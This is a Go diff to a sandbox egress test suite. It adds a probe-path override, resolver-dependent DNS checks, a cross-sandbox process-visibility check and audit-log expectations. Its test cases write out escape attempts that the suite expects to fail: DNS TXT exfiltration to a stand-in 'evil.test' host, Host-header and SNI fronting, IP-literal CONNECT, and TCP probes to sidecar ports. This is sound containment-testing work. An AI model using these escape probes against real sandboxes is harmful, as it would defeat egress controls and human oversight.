@@ -30,7 +30,8 @@ const (
 	// Token is the credential the sidecar injects on AllowedHost. It must
 	// arrive upstream and never be visible in the bottle.
 	Token = "bb-escape-token-7f3a9c1e5d" //nolint:gosec // G101: a test credential
-	// ProbePath is where the probe binary is provisioned in the bottle.
+	// ProbePath is where the probe binary is provisioned in the bottle,
+	// unless the harness says otherwise.
 	ProbePath = "/usr/local/bin/bb-probe"
 )
 
@@ -77,6 +78,19 @@ type Harness struct {
 	// KillSidecar, when set, kills a bottle's sidecar process the way a
 	// crash would.
 	KillSidecar func(t *testing.T, slug string)
+	// ProbePath overrides where the probe is provisioned (a native bottle
+	// can only be given files in its home and /tmp).
+	ProbePath string
+	// Resolver says the bottle's DNS is the sidecar's resolver; without
+	// one, DNS must have nowhere to go at all.
+	Resolver bool
+}
+
+func (h *Harness) probePath() string {
+	if h.ProbePath != "" {
+		return h.ProbePath
+	}
+	return ProbePath
 }
 
 // Spec returns a spec for a bottle of the suite's policy.
@@ -99,12 +113,13 @@ func (h *Harness) Spec(t *testing.T, slug string) *backend.Spec {
 		StateDir:   dir,
 		PolicyFile: pol,
 		CADir:      filepath.Join(dir, "ca"),
+		AuditFile:  filepath.Join(dir, "audit.jsonl"),
 		Secrets:    map[string]secret.Value{"EGRESS_TOKEN_0": secret.New(Token)},
 		UpstreamCA: h.Internet.CAFile,
 		Resolve:    map[string]string{AllowedHost: h.Internet.Upstream + ":443", UnlistedHost: h.Internet.Upstream + ":443"},
 		Image:      h.Image,
 		User:       h.User,
-		Files:      []backend.File{{Path: ProbePath, Mode: 0o755, Data: probe, Root: true}},
+		Files:      []backend.File{{Path: h.probePath(), Mode: 0o755, Data: probe, Root: true}},
 		Workspace:  backend.Workspace{Mode: "none", Path: "/workspace"},
 		Command:    []string{"sleep", "infinity"},
 		OwnerPID:   os.Getpid(),
@@ -129,6 +144,7 @@ func (h *Harness) sh(t *testing.T, slug, script string) (string, int) {
 	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
 	defer cancel()
 	var out bytes.Buffer
+	script = strings.ReplaceAll(script, "bb-probe ", h.probePath()+" ")
 	code, err := h.Backend.Exec(ctx, slug, backend.Exec{Cmd: []string{"bash", "-c", script}, Stdio: backend.Stdio{Stdout: &out, Stderr: &out}})
 	if err != nil {
 		t.Fatalf("exec %q: %v", script, err)
@@ -180,7 +196,6 @@ func Run(t *testing.T, h *Harness) {
 		{"direct DNS to the upstream", "! bb-probe dns leak.test A " + up + ":53"},
 		{"DNS A of an unlisted name", "! bb-probe dns " + UnlistedHost + " A"},
 		{"DNS TXT of an unlisted name", "! bb-probe dns exfil-data.evil.test TXT"},
-		{"DNS of the allowed name points at the sidecar", "dig +short " + AllowedHost + " A | grep -qx '" + addrs.Sidecar + "'"},
 		{"IP literal via CONNECT", "curl -sSk --max-time 10 -o /dev/null -w '%{http_connect}' https://" + up + "/forbidden/ip | grep -qx 403"},
 		{"Host header fronting", "curl -sS --max-time 10 -o /dev/null -w '%{http_code}' -H 'Host: " + UnlistedHost + "' https://" + AllowedHost + "/forbidden/fronting | grep -qx 403"},
 		{"SNI fronting", "curl -sSk --max-time 10 -o /dev/null -w '%{http_code}' --connect-to " + UnlistedHost + ":443:" + AllowedHost + ":443 https://" + UnlistedHost + "/forbidden/sni | grep -qvx 200"},
@@ -193,6 +208,11 @@ func Run(t *testing.T, h *Harness) {
 		{"sidecar port 80", "! bb-probe tcp " + addrs.Sidecar + ":80"},
 		{"sidecar port 443", "! bb-probe tcp " + addrs.Sidecar + ":443"},
 		{"sidecar port 9199", "! bb-probe tcp " + addrs.Sidecar + ":9199"},
+	}
+	if h.Resolver {
+		cases = append(cases, struct{ name, script string }{"DNS of the allowed name points at the sidecar", "dig +short " + AllowedHost + " A | grep -qx '" + addrs.Sidecar + "'"})
+	} else {
+		cases = append(cases, struct{ name, script string }{"DNS has nowhere to go", "! bb-probe dns " + AllowedHost + " A"})
 	}
 	for _, hs := range h.Internet.HostServices {
 		cases = append(cases, struct{ name, script string }{"a host service at " + hs, "! bb-probe tcp " + hs})
@@ -210,9 +230,27 @@ func Run(t *testing.T, h *Harness) {
 	t.Run("another bottle", func(t *testing.T) {
 		other := slug + "-b"
 		h.start(t, other)
+		// A process of the other bottle that this one must not see.
+		if out, code := h.sh(t, other, "(exec -a bb-marker-4242 sleep 600) >/dev/null 2>&1 & echo started"); code != 0 {
+			t.Fatalf("marking the other bottle: %s", out)
+		}
+		for i := 0; ; i++ {
+			out, _ := h.sh(t, other, "cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' ' '")
+			if strings.Contains(out, "bb-marker-4242") {
+				break
+			}
+			if i == 50 {
+				t.Fatalf("the marker is not running in the other bottle; the check proves nothing:\n%s", out)
+			}
+			time.Sleep(100 * time.Millisecond)
+		}
+		if out, _ := h.sh(t, slug, "cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' ' '"); strings.Contains(out, "bb-marker-4242") {
+			t.Errorf("this bottle sees the other bottle's processes:\n%s", out)
+		}
 		oa := h.Addrs(t, other)
 		for _, target := range []string{oa.Sidecar + ":9099", oa.Sidecar + ":53", oa.Agent + ":22"} {
-			if strings.HasPrefix(target, ":") {
+			// An address both bottles share (loopback) is each one's own.
+			if strings.HasPrefix(target, ":") || strings.HasPrefix(target, addrs.Sidecar+":") {
 				continue
 			}
 			if out, code := h.sh(t, slug, "bb-probe tcp "+target); code == 0 {
@@ -242,12 +280,15 @@ func Run(t *testing.T, h *Harness) {
 			t.Fatal(err)
 		}
 		events := auditEvents(t, filepath.Join(spec.StateDir, "audit.jsonl"))
-		for _, want := range []struct{ method, host, rule string }{
-			{"DNS", UnlistedHost, "dns-not-allowed"},
-			{"DNS", "exfil-data.evil.test", "dns-not-allowed"},
+		wants := []struct{ method, host, rule string }{
 			{"CONNECT", UnlistedHost, "host-not-allowed"},
 			{"POST", AllowedHost, "dlp-outbound"},
-		} {
+		}
+		if h.Resolver {
+			wants = append(wants, struct{ method, host, rule string }{"DNS", UnlistedHost, "dns-not-allowed"},
+				struct{ method, host, rule string }{"DNS", "exfil-data.evil.test", "dns-not-allowed"})
+		}
+		for _, want := range wants {
 			if !slices.ContainsFunc(events, func(e auditEvent) bool {
 				return e.Method == want.method && e.Host == want.host && e.Rule == want.rule && e.Decision == "block"
 			}) {
